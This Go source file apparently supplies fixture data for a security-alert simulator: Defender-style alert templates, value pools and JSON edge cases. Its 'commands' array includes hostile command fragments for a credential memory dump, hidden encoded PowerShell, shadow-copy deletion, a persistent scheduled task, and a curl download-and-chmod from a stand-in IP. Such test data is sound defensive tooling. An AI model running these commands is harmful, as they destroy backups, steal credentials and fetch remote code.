package simulator

// kind is what alerts of one kind have in common. The texts are JSON string
// contents, escaped.
type kind struct {
	prefix, source, detector    string
	category, title, techniques string
	description                 string
}

var kinds = [...]kind{
	{"da", "MicrosoftDefenderForEndpoint", "WindowsDefenderAv", "CredentialAccess",
		"Memory read of a protected process", `"T1003","T1003.001"`,
		`A process read the memory of the local security authority. Attackers do this to obtain the credentials of signed-in users and to move on to other devices with them.\n\nThe process was started from a directory that users can write to, shortly after it had been downloaded. Its signer is not known in this organization.\n\nReview the process tree and the sign-ins of the users concerned, and isolate the device if the activity was not expected.`},
	{"da", "MicrosoftDefenderForEndpoint", "WindowsDefenderAtp", "Execution",
		"Suspicious PowerShell command line", `"T1059","T1059.001"`,
		`A command line with an encoded or obfuscated PowerShell script was observed. Such command lines are common in the early stages of an attack, because they hide what is being run from people and from simple detections.\n\nThe script contacted an address that has not been seen in this organization before.\n\nDecode the script, review what was downloaded, and collect an investigation package from the device.`},
	{"da", "MicrosoftDefenderForEndpoint", "AutomatedInvestigation", "Ransomware",
		"Many files renamed in a short time", `"T1486","T1490"`,
		`A process renamed an unusual number of files with an extension that is not in use in this organization, and deleted volume shadow copies before it did so.\n\nThis is how ransomware prepares to demand payment. The process was stopped after 214 files; files that had been changed before are listed as evidence.\n\nIsolate the device, look for the same hash on other devices, and restore the files from a backup.`},
	{"fa", "MicrosoftDefenderForOffice365", "OfficeATP", "InitialAccess",
		"Email messages with a malicious URL removed after delivery", `"T1566","T1566.002"`,
		`Messages with a URL that was found to be malicious were delivered to mailboxes and have been removed since.\n\nThe page that the URL leads to asks for the credentials of the user, in the design of a service that the organization uses. Recipients may have opened it before the messages were removed.\n\nCheck the clicks on the URL and reset the credentials of those who entered them.`},
	{"ad", "AADIdentityProtection", "AAD", "InitialAccess",
		"Unfamiliar sign-in properties", `"T1078","T1078.004"`,
		`A sign-in had properties that have not been seen for this user before: the address, the autonomous system, the browser and the location differ from those of the last thirty days.\n\nThe sign-in succeeded with a single factor. The session has not been revoked.\n\nAsk the user, revoke the sessions, and require a change of the password if the sign-in was not the user's own.`},
	{"ca", "MicrosoftCloudAppSecurity", "MCAS", "Exfiltration",
		"Mass download by a single user", `"T1530","T1567"`,
		`A user downloaded far more files from cloud storage within an hour than the user and comparable users did on any day of the last month.\n\nSome of the files carry a sensitivity label. The activity came from a device that is not managed and from an address that belongs to a hosting provider.\n\nReview the files and suspend the user's sessions if there is no reason for the activity.`},
	{"da", "MicrosoftDefenderForEndpoint", "CustomDetection", "Persistence",
		"Scheduled task created by an unsigned binary", `"T1053","T1053.005","T1547"`,
		`A scheduled task that runs an unsigned binary at every sign-in was created. Attackers use scheduled tasks to keep their access when the device is started again.\n\nThe task runs with the highest privileges and is hidden from the list of tasks.\n\nExport the task's definition, remove it, and look for the way in which the binary came to the device.`},
	{"aa", "MicrosoftDefenderForIdentity", "MicrosoftDefenderForIdentity", "LateralMovement",
		"Suspected use of a stolen Kerberos ticket", `"T1550","T1550.003","T1558"`,
		`A Kerberos ticket that had been issued to one device was used from another one. Tickets are taken from memory and used elsewhere to act as the user without knowing the password.\n\nThe two devices have no user in common. Name resolution for one of them was uncertain at the time.\n\nFind out whether the address was reassigned in between; if not, treat both devices as compromised.`},
}

var (
	statuses        = []string{"Active", "Active", "InProgress", "Resolved"}
	classifications = []string{"Unknown", "Unknown", "TruePositive", "FalsePositive", "InformationalExpectedActivity"}
	determinations  = []string{"NotAvailable", "NotAvailable", "Malware", "Phishing", "CompromisedUser", "LineOfBusinessApplication", "Other"}
	severities      = []string{"Informational", "Low", "Medium", "Medium", "High"}
	tagSets         = []string{`[]`, `[]`, `["tier0"]`, `["finance","vip"]`, `["Ransomware"]`, `["reviewed  twice"]`}
	alertStatuses   = []string{"New", "InProgress", "Resolved"}
	investigations  = []string{"Queued", "Running", "PendingApproval", "PartiallyInvestigated", "SuccessfullyRemediated", "Benign", "UnsupportedAlertType", "TerminatedBySystem"}
	verdicts        = []string{"Suspicious", "Suspicious", "Malicious", "NoThreatsFound"}
	remediations    = []string{"None", "Active", "Remediated", "Prevented", "NotFound"}
	analysts        = []string{"ana@fabrikam.example", "bo@fabrikam.example", "chidi@fabrikam.example", "soc-l2@fabrikam.example"}
	givenNames      = []string{"ana", "bo", "chidi", "dara", "emre", "fadia", "goran", "hoa", "ines", "jiro", "kwame", "lena", "maru", "nuno", "oona", "pavel"}
	platforms       = []string{`"Windows11","version":"24H2","osProcessor":"x64","osBuild":26100`, `"Windows11","version":"23H2","osProcessor":"x64","osBuild":22631`, `"Windows10","version":"22H2","osProcessor":"x64","osBuild":19045`, `"WindowsServer2022","version":"21H2","osProcessor":"x64","osBuild":20348`, `"Linux","version":"12","osProcessor":"x64","osBuild":null`, `"macOS","version":"15","osProcessor":"arm64","osBuild":null`}
	groups          = []string{"Workstations", "Servers", "Executives", "Factory floor", "Kiosks"}
	files           = []string{"pd.exe", "invoice_0412.js", "update-helper.exe", "svch0st.exe", "setup.msi", "report.xlsm", "rundll32.exe", "loader.dll"}
	directories     = []string{`C:\\Temp`, `C:\\Users\\Public\\Downloads`, `C:\\ProgramData\\Updater`, `C:\\Windows\\System32`, `\/tmp\/.cache`}
	sites           = []string{"login-portal", "cdn-sync", "invoice-view", "files-share", "update-check"}
	subjects        = []string{"Your invoice is ready", "Password expires today", "Shared document: \\\"Q3 forecast\\\"", "Delivery attempt <failed>", "RE:  RE:  contract"}
)

// commands are command lines in three parts: a number and noise go between.
var commands = [...][3]string{
	{`pd.exe -accepteula -ma `, ` C:\\Temp\\dump-`, `.dmp`},
	{`powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -Port `, ` -EncodedCommand `, `==`},
	{`cmd.exe \/c \"vssadmin delete shadows \/all \/quiet & wmic shadowcopy delete & ping -n `, ` 127.0.0.1 > nul & del \/f \/q C:\\ProgramData\\`, `.tmp\"`},
	{`rundll32.exe C:\\ProgramData\\Updater\\loader.dll,Start \/port=`, ` \/key=`, ` \/silent`},
	{`schtasks.exe \/create \/sc onlogon \/rl highest \/tn \"Updater `, `\" \/tr \"C:\\ProgramData\\Updater\\`, `.exe -s\" \/f`},
	{`curl -fsSL http:\/\/198.51.100.7:`, `\/a\/`, ` -o \/tmp\/.cache\/x && chmod +x \/tmp\/.cache\/x`},
}

// oddities are members that are legal, and that programs which decode and
// encode again get wrong.
var oddities = [...]string{
	`"providerSequence":9007199254740993,`,
	`"confidence":1.0,"weight":1e2,"offset":-0,"factor":1.50E+3,`,
	`"summary":"first line\nsecond line \u003cb\u003e and raw <i> & a\/b",`,
	`"lineSeparators":"raw ` + "\u2028" + ` and escaped \u2028\u2029",`,
	`"signature":18446744073709551615,"checksum":123456789012345678901234567890,`,
	`"customDetails":{"rule ":"two  spaces,\ttab , : { } [ ]","empty":{},"list":[],"deep":[[[null]]]},`,
	`"displayName":"zero` + "\u200b" + `width, caf\u00e9, ` + "\U0001f600" + `, \ud83d\ude00",`,
	`"lastModifiedBy":null,"priorityScore":null,`,
	``,
	``,
}

// filler pads oversize incidents.
const filler = "QmluYXJ5IGV2aWRlbmNlIHRoYXQgd2FzIGF0dGFjaGVkIHRvIHRoZSBpbmNpZGVudCBieSBhIHBsYXlib29rLg0K"
